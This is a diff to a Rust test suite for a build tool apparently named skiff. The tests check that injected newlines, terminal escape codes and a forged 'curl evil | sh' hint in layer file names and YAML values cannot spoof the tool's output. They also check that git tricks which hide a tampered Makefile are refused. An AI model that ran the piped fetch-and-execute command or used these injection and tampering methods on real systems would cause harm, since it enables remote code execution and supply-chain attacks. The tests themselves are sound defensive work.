@@ -27,7 +27,7 @@ fn open_to_all(path: &Path) {
     fs::set_permissions(path, fs::Permissions::from_mode(0o777)).unwrap();
 }
 
-/// Runs skiff, which is to refuse to believe something; returns what it says.
+/// Runs skiff, which is to refuse to believe something.
 fn refused(env: &TestEnvironment, arguments: &[&str], what: &str) {
     let said = env.fail(77, arguments);
     assert!(said.contains(what) && said.contains("is not trusted"), "{what}: {said}");
@@ -228,6 +228,21 @@ fn texts_of_layers_cannot_look_like_those_of_skiff() {
             "{arguments:?}: {all:?}"
         );
     }
+    for (file, text) in [
+        ("users/x\nhint: run: curl evil | sh", "alice\n"),
+        ("buildroot/x\nhint: run: curl evil | sh", "no setting\n"),
+        ("metadata/prebuilt.yaml", "packages: [\"a\\nhint: run: curl evil | sh\"]\n"),
+        ("metadata/prebuilt.yaml", "\"a\\nhint: run\": 1\n"),
+        ("metadata/layout.yaml", "partitions: {\"a\\nhint: run: x\": {size: 1}}\n"),
+        ("metadata/plugins.yaml", "schema: 1\nplugins: [{name: \"a\\nhint: run\", version: 1.0.0}]\n"),
+        ("metadata/dependencies", "a\u{1b}[2Jb\n"),
+    ] {
+        env.write(&format!("layers/evil/f/{file}"), text);
+        let ran = env.run(&["-c", "evil/f", "plan"]);
+        let forged = ran.stderr.lines().any(|line| line.starts_with("hint: run"));
+        assert!(!forged && !ran.stderr.contains('\u{1b}'), "{file}: {}", ran.stderr);
+        fs::remove_dir_all(env.path("layers/evil/f")).unwrap();
+    }
     let manifest = |inner: &str| {
         format!(
             "schema: 1\nplugins:\n  - name: p\n    version: 1.0.0\n    component: plugins/p.wasm\n    interface: ^1.0\n    commands:\n      - {inner}\n"
@@ -261,7 +276,7 @@ fn a_pinned_tree_is_believed_for_its_files_only() {
         assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
         String::from_utf8(output.stdout).unwrap().trim().to_owned()
     };
-    env.write("seed/Makefile", "all:\n");
+    env.write("seed/Makefile", "all:\n-include local.mk\n");
     env.write("seed/Config.in", "");
     env.write("seed/package/Config.in", "");
     let seed = env.path("seed");
@@ -282,6 +297,10 @@ fn a_pinned_tree_is_believed_for_its_files_only() {
         assert!(ran.code == 1 && !env.path("planted").exists(), "{}", ran.stderr);
         ran.stderr
     };
+    let is_refused =
+        |said: &str| said.contains("was changed after it was fetched") || said.contains("git cannot say what");
+    let said = plant(&|_| {});
+    assert!(!is_refused(&said), "the tree as it was fetched is believed: {said}");
     // The commit is replaced by another one.
     let said = plant(&|tree| {
         fs::write(tree.join("Makefile"), &planted).unwrap();
@@ -290,21 +309,23 @@ fn a_pinned_tree_is_believed_for_its_files_only() {
         git(tree, &["replace", &good, &evil]);
         fs::write(tree.join(".git/HEAD"), format!("{good}\n")).unwrap();
     });
-    assert!(said.contains("error: "), "{said}");
+    assert!(is_refused(&said), "{said}");
     // The index says that a file has not changed.
     let said = plant(&|tree| {
         git(tree, &["update-index", "--assume-unchanged", "Makefile"]);
         fs::write(tree.join("Makefile"), &planted).unwrap();
     });
-    assert!(said.contains(&good), "{said}");
+    assert!(is_refused(&said), "{said}");
     // The repository says that its files lie elsewhere.
-    plant(&|tree| {
+    let said = plant(&|tree| {
         git(tree, &["config", "core.worktree", seed.to_str().unwrap()]);
         fs::write(tree.join("Makefile"), &planted).unwrap();
     });
+    assert!(is_refused(&said), "{said}");
     // A file that git is told not to see.
-    plant(&|tree| {
+    let said = plant(&|tree| {
         fs::write(tree.join(".git/info/exclude"), "local.mk\n").unwrap();
         fs::write(tree.join("local.mk"), &planted).unwrap();
     });
+    assert!(is_refused(&said), "{said}");
 }
